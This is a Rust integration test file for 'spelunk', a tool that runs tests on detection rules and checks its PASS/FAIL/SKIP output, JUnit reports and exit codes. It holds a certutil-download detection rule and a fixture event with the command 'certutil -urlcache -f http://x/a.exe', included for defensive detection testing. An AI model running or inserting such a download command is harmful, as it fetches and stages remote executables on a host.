//! `spelunk test` and `spelunk explain` through the binary: sidecar `*.test.yml` files and
//! security_content `tests:` blocks, PASS/FAIL/SKIP lines, the closing count, JUnit, exit codes.

use std::path::Path;

mod common;
use common::*;

const RULE: &str = "index=web status>=500 | stats count by host | where count > 1\n";

#[test]
fn shipped_rules_pass_their_tests() {
    let o = spelunk_in(root(), &["test", "rules/"]);
    assert_eq!(o.status.code(), Some(0), "{}{}", out(&o), err(&o));
    let text = out(&o);
    assert!(
        text.contains("PASS rules/spl/t1071_003_mail_protocols.spl › shipped events"),
        "{text}"
    );
    assert!(
        text.contains(
            "PASS rules/sigma/t1071_003_mail_protocols.yml › three IMAP connections from curl fire"
        ),
        "{text}"
    );
    assert!(!text.contains("FAIL"), "{text}");
    assert!(text.trim_end().ends_with("18 passed, 0 failed"), "{text}");
}

fn failing_suite(dir: &Path) {
    write(dir, "errors.spl", RULE);
    write(
        dir,
        "errors.test.yml",
        r#"cases:
  - name: two errors on one host fire
    set: {index: web}
    events: [{host: a, status: 500}, {host: a, status: 503}, {host: b, status: 500}]
    expect:
      rows: [{host: a, count: 2}]
  - name: wrong count on purpose
    set: {index: web}
    events: [{host: a, status: 500}, {host: a, status: 502}]
    expect:
      rows: [{host: a, count: 3}]
  - name: negative case that fires
    events_file: events.ndjson
    expect: {no_results: true}
"#,
    );
    write(
        dir,
        "events.ndjson",
        "{\"index\":\"web\",\"host\":\"c\",\"status\":500}\n{\"index\":\"web\",\"host\":\"c\",\"status\":501}\n",
    );
}

#[test]
fn failures_show_a_diff_and_exit_1() {
    let dir = temp_dir("test", "fail");
    failing_suite(&dir);
    let o = spelunk_in(&dir, &["test", "."]);
    assert_eq!(o.status.code(), Some(1), "{}", err(&o));
    let text = out(&o);
    assert!(
        text.contains("PASS ./errors.spl › two errors on one host fire"),
        "{text}"
    );
    assert!(
        text.contains("FAIL ./errors.spl › wrong count on purpose"),
        "{text}"
    );
    assert!(text.contains("~ row 1: count: expected 3, got 2"), "{text}");
    assert!(text.contains("expected no results, got 1 row(s)"), "{text}");
    assert!(text.contains("+ {\"host\":\"c\",\"count\":2}"), "{text}");
    assert!(text.trim_end().ends_with("1 passed, 2 failed"), "{text}");
}

#[test]
fn junit_report_is_written() {
    let dir = temp_dir("test", "junit");
    failing_suite(&dir);
    let o = spelunk_in(&dir, &["test", ".", "--junit", "report.xml"]);
    assert_eq!(o.status.code(), Some(1));
    let xml = std::fs::read_to_string(dir.join("report.xml")).unwrap();
    assert!(
        xml.contains("<testsuites name=\"spelunk\" tests=\"3\" failures=\"2\" skipped=\"0\">"),
        "{xml}"
    );
    assert!(
        xml.contains("<testcase classname=\"./errors.spl\" name=\"two errors on one host fire\""),
        "{xml}"
    );
    assert!(
        xml.contains("<failure message=\"expected 1 row(s), got 1; - expected, + actual:\">"),
        "{xml}"
    );
}

#[test]
fn contains_count_and_at_least_expectations() {
    let dir = temp_dir("test", "kinds");
    write(&dir, "errors.spl", RULE);
    write(
        &dir,
        "errors.test.yml",
        r#"rule: errors.spl
cases:
  - name: subset of fields, count and at_least together
    set: {index: web}
    events: [{host: a, status: 500}, {host: a, status: 500}, {host: b, status: 599}, {host: b, status: 500}]
    expect:
      contains: [{host: b}, {count: "2", host: a}]
      count: 2
      at_least: 1
  - name: rows in any order
    set: {index: web}
    events: [{host: a, status: 500}, {host: a, status: 500}, {host: b, status: 599}, {host: b, status: 500}]
    expect:
      ordered: false
      rows: [{host: b, count: 2}, {host: a, count: 2}]
"#,
    );
    let o = spelunk_in(&dir, &["test", "errors.test.yml"]);
    assert_eq!(o.status.code(), Some(0), "{}", out(&o));
    assert!(out(&o).contains("2 passed, 0 failed"));
}

#[test]
fn broken_test_files_and_rules_fail_and_bad_usage_is_exit_2() {
    let dir = temp_dir("test", "broken");
    write(&dir, "a.spl", "index=web | stats count by\n");
    write(
        &dir,
        "a.test.yml",
        "cases:\n  - name: x\n    events: [{a: 1}]\n    expect: {count: 0}\n",
    );
    write(
        &dir,
        "b.test.yml",
        "cases:\n  - name: y\n    expect: {count: 0}\n    oops: 1\n",
    );
    let o = spelunk_in(&dir, &["test", "."]);
    assert_eq!(o.status.code(), Some(1));
    let text = out(&o);
    assert!(text.contains("FAIL ./a.test.yml › x"), "{text}");
    assert!(text.contains("`by` expects a field name"), "{text}");
    assert!(text.contains("invalid test file"), "{text}");
    assert!(text.contains("0 passed, 2 failed"), "{text}");
    let missing = spelunk_in(&dir, &["test", "no/such/dir"]);
    assert_eq!(missing.status.code(), Some(2));
    let empty = temp_dir("test", "empty");
    let none = spelunk_in(&empty, &["test", "."]);
    assert_eq!(none.status.code(), Some(2));
    assert!(err(&none).contains("no tests found"), "{}", err(&none));
}

const DETECTION: &str = r#"name: Windows Certutil Download
id: 0dba975d-0000-4000-8000-000000000001
description: certutil fetching a file
search: '`sysmon` EventCode=1 Image="*\\certutil.exe" CommandLine="*urlcache*" | stats count by Computer, CommandLine | `windows_certutil_download_filter`'
tags:
  mitre_attack_id:
  - T1105
tests:
- name: True Positive Test
  attack_data:
  - data: https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1105/certutil/sysmon.json
    source: XmlWinEventLog:Microsoft-Windows-Sysmon/Operational
    sourcetype: XmlWinEventLog
"#;

#[test]
fn security_content_tests_use_local_attack_data_with_sourcetype_applied() {
    let dir = temp_dir("test", "escu");
    write(&dir, "certutil.yml", DETECTION);
    write(&dir, "macros.conf", "[sysmon]\ndefinition = sourcetype=XmlWinEventLog source=\"XmlWinEventLog:Microsoft-Windows-Sysmon/Operational\"\n");
    let no_data = spelunk_in(&dir, &["test", ".", "--macros", "macros.conf"]);
    assert_eq!(no_data.status.code(), Some(0), "{}", out(&no_data));
    assert!(
        out(&no_data)
            .contains("SKIP ./certutil.yml › True Positive Test: attack data not found locally"),
        "{}",
        out(&no_data)
    );
    assert!(
        out(&no_data).contains("0 passed, 0 failed, 1 skipped"),
        "{}",
        out(&no_data)
    );

    let data = dir.join("attack_data/datasets/attack_techniques/T1105/certutil");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(
        data.join("sysmon.json"),
        "{\"EventCode\":1,\"Computer\":\"ws1\",\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil -urlcache -f http://x/a.exe\"}\n",
    )
    .unwrap();
    let o = spelunk_in(
        &dir,
        &[
            "test",
            ".",
            "--macros",
            "macros.conf",
            "--attack-data",
            "attack_data",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", out(&o));
    assert!(
        out(&o).contains("PASS ./certutil.yml › True Positive Test"),
        "{}",
        out(&o)
    );

    // Without the source/sourcetype the `sysmon` macro needs, the detection does not fire.
    let bare = DETECTION.replace(
        "    source: XmlWinEventLog:Microsoft-Windows-Sysmon/Operational\n",
        "",
    );
    write(&dir, "certutil.yml", &bare);
    let o = spelunk_in(
        &dir,
        &[
            "test",
            ".",
            "--macros",
            "macros.conf",
            "--attack-data",
            "attack_data",
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", out(&o));
    assert!(
        out(&o).contains("expected at least 1 row(s), got 0"),
        "{}",
        out(&o)
    );
}

#[test]
fn explain_shows_expansion_ir_and_fields() {
    let dir = temp_dir("test", "explain");
    write(&dir, "certutil.yml", DETECTION);
    write(
        &dir,
        "macros.conf",
        "[sysmon]\ndefinition = sourcetype=XmlWinEventLog\n",
    );
    let o = spelunk_in(
        &dir,
        &["explain", "certutil.yml", "--macros", "macros.conf"],
    );
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let text = out(&o);
    assert!(
        text.contains("rule:     Windows Certutil Download (SPL, certutil.yml)"),
        "{text}"
    );
    assert!(text.contains("tags:     attack.t1105"), "{text}");
    assert!(
        text.contains("search (after macro expansion):\n  sourcetype=XmlWinEventLog EventCode=1"),
        "{text}"
    );
    assert!(text.contains("IR:\n   0: Filter"), "{text}");
    assert!(
        text.contains(
            "fields read (5):\n  sourcetype\n  EventCode\n  Image\n  CommandLine\n  Computer\n"
        ),
        "{text}"
    );
    let seed = spelunk_in(
        root(),
        &["explain", "rules/spl/t1071_003_mail_protocols.spl"],
    );
    assert!(out(&seed).contains("fields read (10):"), "{}", out(&seed));
    assert!(
        out(&seed)
            .contains("line must hold (prefilter, any case):\n  \"network\" or \"firewall\"\n"),
        "{}",
        out(&seed)
    );
    assert!(
        out(&seed).contains("checked as parsed (pushdown):\n  index: "),
        "{}",
        out(&seed)
    );
    // Every part of the seed's search is checked as its events are parsed, and three fields
    // that nothing else reads are not kept.
    assert!(
        out(&seed).contains(
            "  left to the search: nothing\n  read by nothing else, not kept: index, sourcetype, action\n"
        ),
        "{}",
        out(&seed)
    );
    // Inline SPL, as `run -q` takes it; an error in it points into the query.
    let inline = spelunk_in(&dir, &["explain", "-q", "index=a | stats count by src"]);
    assert_eq!(inline.status.code(), Some(0), "{}", err(&inline));
    assert!(
        out(&inline).contains("fields read (2):\n  index\n  src\n"),
        "{}",
        out(&inline)
    );
    let typo = spelunk_in(&dir, &["explain", "-q", "index=a | stats count("]);
    assert_eq!(typo.status.code(), Some(2));
    assert!(err(&typo).contains("--> <query>:1:23"), "{}", err(&typo));
    let bad = spelunk_in(&dir, &["explain", "nope.spl"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        err(&bad).contains("cannot read rule file `nope.spl`"),
        "{}",
        err(&bad)
    );
}
